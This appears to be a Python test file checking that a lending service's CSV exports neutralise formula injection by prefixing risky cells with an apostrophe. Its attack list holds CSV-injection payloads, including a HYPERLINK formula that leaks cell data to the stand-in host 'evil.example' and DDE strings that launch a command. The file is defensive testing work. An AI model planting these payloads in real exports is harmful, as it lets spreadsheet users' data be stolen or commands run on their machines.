"""CSV downloads never carry a cell a spreadsheet would run as a formula (OWASP "CSV injection"):
text starting with = + - @ (or tab / carriage return, or their full-width forms) gets a leading
apostrophe; numbers and every other text are written as they are."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from chalicelib.analytics.export import users_csv
from chalicelib.analytics.rfm import UserScore
from chalicelib.csv_cells import FORMULA_START, safe_cell
from tests.api_support import api_client, get, partner_key
from tests.factories import make_loan, make_partner

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Klik di sini")'
# what spreadsheet applications read as a formula when it starts a cell
ATTACKS = [HYPERLINK, "+62 811 000", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1", "\uff1d1+1"]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@given(st.text())
def test_a_cell_never_starts_a_formula_and_reads_back_as_written(value):
    (row,) = _cells(_write([safe_cell(value)]))
    assert row == [safe_cell(value)]
    assert not row[0].startswith(FORMULA_START)
    assert row[0] == ("'" + value if value.startswith(FORMULA_START) else value)


def _write(row: list[object]) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerow(row)
    return out.getvalue()


def test_numbers_and_plain_text_are_unchanged():
    assert safe_cell(-5) == -5 and safe_cell(0) == 0 and safe_cell(None) is None
    assert safe_cell("Modal usaha") == "Modal usaha" and safe_cell("") == ""
    assert all(safe_cell(a) == "'" + a for a in ATTACKS)


def test_partner_report_csv_neutralises_formulas_and_json_keeps_the_value(conn):
    make_partner(conn, 7, "Lendana P2P")
    loan = make_loan(conn, partner_id=7, fullname="@SUM(1+1) Budi")
    with conn.cursor() as cur:
        cur.execute("UPDATE application SET loan_purpose = %s, credit_grade = %s WHERE application_id = %s",
                    (HYPERLINK, "-1", loan.application_id))
    key = partner_key(conn, 7)
    with api_client() as client:
        _, page, _ = get(client, "/v1/partner/report", key)
        status, text, _ = get(client, "/v1/partner/report", key, accept="text/csv")
    assert status == 200
    (row,) = list(csv.DictReader(io.StringIO(text)))
    assert row["loan_purpose"] == "'" + HYPERLINK
    assert row["credit_grade"] == "'-1"
    assert row["fullname"] == "'@**** Bu****"
    assert not [c for r in _cells(text) for c in r if c.startswith(FORMULA_START)]
    (json_row,) = page["rows"]
    assert json_row["loan_purpose"] == HYPERLINK  # JSON is data, not a spreadsheet: unchanged
    assert int(row["loan_amount"]) == json_row["loan_amount"]  # numbers as they are


def test_analytics_users_csv_neutralises_formulas():
    user = UserScore(user_id=HYPERLINK, recency=-1, r_score=3, frequency=2, f_score=2, monetary=150_000,
                     m_score=2, total_score=7, segment="+Champions")
    header, row = _cells(users_csv([user]))
    values = dict(zip(header, row, strict=True))
    assert values["user_id"] == "'" + HYPERLINK and values["segment"] == "'+Champions"
    assert values["recency"] == "-1"  # a number, not text: never a formula
